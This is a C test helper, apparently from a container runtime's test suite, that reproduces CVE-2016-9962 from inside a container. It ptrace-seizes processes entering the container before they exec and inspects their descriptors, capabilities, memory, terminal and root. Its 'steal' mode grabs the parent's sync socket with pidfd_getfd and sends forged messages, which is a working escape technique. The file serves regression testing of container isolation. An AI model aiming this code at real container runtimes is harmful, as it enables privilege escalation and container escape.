/*
 * CVE-2016-9962 from inside: waits for the processes that are born in this pid namespace, stops each by ptrace before
 * it runs its program, and looks for anything that the container should not have. Ends when /stop exists.
 *
 *	stalk look CAPS     CAPS (hexadecimal) are the capabilities of the container; prints whatever exceeds them, and finally the
 *	                    number of processes caught
 *	stalk steal KIND VALUE [hold]    takes the socket to the parent and sends a message of that number, with a pidfd of ours, and
 *	                    a message "ready"; kills the process, or with `hold` lets it run and keeps the socket
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "../../src/base/error.h"

/* As in src/launch/sync.h. */
struct message {
	uint32_t kind;
	int32_t value;
	struct error error;
};
enum { ASK_READY = 6 };

static const char secret[] = "HULL_TEST_SECRET="; /* of the caller's environment */

static int before, after, denied;

static int same_file(const char *a, const char *b)
{
	struct stat s, t;
	return stat(a, &s) == 0 && stat(b, &t) == 0 && s.st_dev == t.st_dev && s.st_ino == t.st_ino;
}

static const char *proc_path(pid_t pid, const char *name)
{
	static char path[4][300];
	static int next;
	next = (next + 1) % 4;
	(void)snprintf(path[next], sizeof(path[next]), "/proc/%d/%s", (int)pid, name);
	return path[next];
}

/* Nothing else may be open but the caller's streams, which the program gets anyway, and the socket. */
static void look_at_descriptors(pid_t pid)
{
	DIR *dir = opendir(proc_path(pid, "fd"));
	for (struct dirent *e; dir && (e = readdir(dir));) {
		char name[300], target[512];
		(void)snprintf(name, sizeof(name), "fd/%s", e->d_name);
		ssize_t len = readlink(proc_path(pid, name), target, sizeof(target) - 1);
		int number = atoi(e->d_name);
		if (len < 0 || (number < 3 && *e->d_name != '.'))
			continue;
		target[len] = '\0';
		if (strncmp(target, "socket:", 7) != 0)
			printf("descriptor %d is %s\n", number, target);
	}
	if (dir)
		(void)closedir(dir);
}

static void look_at_capabilities(pid_t pid, unsigned long long allowed)
{
	char line[256];
	FILE *status = fopen(proc_path(pid, "status"), "r");
	while (status && fgets(line, sizeof(line), status))
		if (strncmp(line, "Cap", 3) == 0 && (strtoull(line + 8, NULL, 16) & ~allowed))
			printf("capabilities %s", line);
	if (status)
		(void)fclose(status);
}

static void search(pid_t pid, unsigned long start, unsigned long end, const char *what)
{
	size_t size = end - start < (8UL << 20) ? end - start : 8UL << 20;
	char *data = malloc(size);
	struct iovec to = { data, size }, from = { (void *)start, size };
	ssize_t len = data ? process_vm_readv(pid, &to, 1, &from, 1, 0) : -1;
	if (len > 0 && memmem(data, (size_t)len, secret, sizeof(secret) - 1))
		printf("secret in %s", what);
	free(data);
}

static void look_at_memory(pid_t pid)
{
	char line[512];
	unsigned long start, end;
	FILE *maps = fopen(proc_path(pid, "maps"), "r");
	while (maps && fgets(line, sizeof(line), maps))
		if (sscanf(line, "%lx-%lx", &start, &end) == 2)
			search(pid, start, end, line);
	if (maps)
		(void)fclose(maps);
}

/* Field 7 of proc_pid_stat(5): the controlling terminal. */
static void look_at_terminal(pid_t pid)
{
	int terminal = 0;
	FILE *stat_file = fopen(proc_path(pid, "stat"), "r");
	if (stat_file && fscanf(stat_file, "%*d (%*[^)]) %*c %*d %*d %*d %d", &terminal) == 1 && terminal)
		printf("terminal %d\n", terminal);
	if (stat_file)
		(void)fclose(stat_file);
}

static void look(pid_t pid, char **args)
{
	look_at_terminal(pid);
	look_at_descriptors(pid);
	look_at_capabilities(pid, strtoull(args[0], NULL, 16));
	look_at_memory(pid);
	if (!same_file(proc_path(pid, "root"), "/"))
		printf("another root\n");
	if (!same_file(proc_path(pid, "cwd"), "/"))
		printf("another working directory\n");
	(void)fflush(stdout);
}

static int send_message(int sock, uint32_t kind, int32_t value, int fd)
{
	union {
		char buf[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} control = { .buf = "" };
	struct message message = { .kind = kind, .value = value };
	struct iovec io = { &message, sizeof(message) };
	struct msghdr header = { .msg_iov = &io, .msg_iovlen = 1 };
	if (fd >= 0) {
		header.msg_control = &control;
		header.msg_controllen = sizeof(control);
		struct cmsghdr *c = CMSG_FIRSTHDR(&header);
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_RIGHTS;
		c->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(c), &fd, sizeof(fd));
	}
	return (int)sendmsg(sock, &header, MSG_NOSIGNAL);
}

/* Returns whether the process may go on. */
static int steal(pid_t pid, char **args)
{
	int type, pidfd = (int)syscall(SYS_pidfd_open, pid, 0), own = (int)syscall(SYS_pidfd_open, getpid(), 0);
	socklen_t len = sizeof(type);
	for (int i = 3; i < 64; i++) {
		int sock = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);
		if (sock < 0 || getsockopt(sock, SOL_SOCKET, SO_TYPE, &type, &len) < 0 || type != SOCK_SEQPACKET)
			continue;
		printf("stolen %d\n", i);
		if (args[2])
			return 1; /* the socket stays with us */
		(void)send_message(sock, (uint32_t)atoi(args[0]), atoi(args[1]), own);
		(void)kill(pid, SIGKILL);
		(void)send_message(sock, ASK_READY, 0, -1);
		return 0;
	}
	return 1;
}

static void stop(pid_t pid, char **args)
{
	int status;
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
		return;
	if (same_file(proc_path(pid, "exe"), "/bin/busybox")) {
		after++;
	} else {
		before++;
		if (strcmp(args[0], "look") == 0)
			look(pid, args + 1);
		else if (!steal(pid, args + 1))
			return;
		(void)fflush(stdout);
	}
	(void)ptrace(PTRACE_DETACH, pid, 0, 0);
}

int main(int argc, char **argv)
{
	pid_t last = getpid();
	(void)close(open("/ready", O_CREAT | O_WRONLY, 0600));
	for (unsigned turn = 0; argc > 2; turn++) {
		if (turn % 256 == 0 && access("/stop", F_OK) == 0)
			break;
		for (pid_t pid = last + 1; pid < last + 8; pid++) {
			if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
				stop(pid, argv + 1);
			else if (errno == ESRCH)
				continue;
			else
				denied++;
			last = pid;
			break;
		}
		while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
			;
	}
	printf("caught %d before, %d after, %d denied\n", before, after, denied);
	return 0;
}
